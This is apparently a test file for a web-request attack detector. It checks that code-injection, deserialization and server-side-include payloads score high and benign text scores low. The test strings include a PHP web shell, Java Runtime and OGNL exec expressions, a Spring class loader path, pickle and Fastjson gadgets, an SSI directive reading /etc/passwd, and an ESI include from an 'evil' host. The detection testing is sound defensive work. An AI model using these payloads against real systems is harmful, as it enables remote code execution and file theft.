import assert from "node:assert/strict";
import { codeInjection } from "../../engine/code_injection.ts";
import { deserialization } from "../../engine/deserialization.ts";
import { ssi } from "../../engine/ssi.ts";
import type { Detector } from "../../engine/types.ts";
import { engineInput } from "../_helpers/engine_input.ts";

const score = (d: Detector, text: string, name = "q") => d(engineInput(text, { name }))?.score ?? 0;

Deno.test("codeInjection() catches PHP code by call shape", () => {
  for (
    const p of [
      "<?php system($_GET['c']); ?>",
      "system('id')",
      "${@phpinfo()}",
      ";phpinfo();//",
      '{$_GET["cmd"]}',
    ]
  ) {
    assert.ok(score(codeInjection, p) >= 70, p);
  }
});

Deno.test("codeInjection() catches Java runtime, OGNL, SpEL and class loader access", () => {
  for (
    const p of [
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
      "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
      "new java.lang.ProcessBuilder('id').start()",
    ]
  ) {
    assert.ok(score(codeInjection, p) >= 70, p);
  }
  assert.ok(
    score(
      codeInjection,
      "x",
      "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
    ) >= 90,
  );
});

Deno.test("codeInjection() passes prose and JavaScript method calls", () => {
  for (
    const p of [
      "The operating system (Windows) is fine",
      "const m = re.exec(text)",
      "evaluate the system",
    ]
  ) {
    assert.ok(score(codeInjection, p) < 70, p);
  }
});

Deno.test("deserialization() catches serialized objects and gadget type tags", () => {
  for (
    const p of [
      "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
      "aced0005737200116a6176612e7574696c2e486173684d6170",
      'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
      "AAEAAAD/////AQAAAAAAAAAMAgAAAF",
      '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
      "!!python/object/apply:os.system ['id']",
      "cos\nsystem\n(S'id'\ntR.",
      '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a"}',
    ]
  ) {
    assert.ok(score(deserialization, p) >= 70, p);
  }
});

Deno.test("deserialization() passes JSON and tokens that only look similar", () => {
  for (
    const p of [
      '{"type":"info","id":"5356973"}',
      "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
      "a:2 is the ratio",
    ]
  ) {
    assert.ok(score(deserialization, p) < 70, p);
  }
});

Deno.test("ssi() catches SSI directives and ESI tags", () => {
  assert.ok(score(ssi, '<!--#exec cmd="/bin/cat /etc/passwd"-->') >= 90);
  assert.ok(score(ssi, '<!--#echo var="DOCUMENT_ROOT" -->') >= 70);
  assert.ok(score(ssi, '<esi:include src="http://evil/x"/>') >= 70);
  assert.equal(ssi(engineInput("<!-- a normal HTML comment -->")), undefined);
});
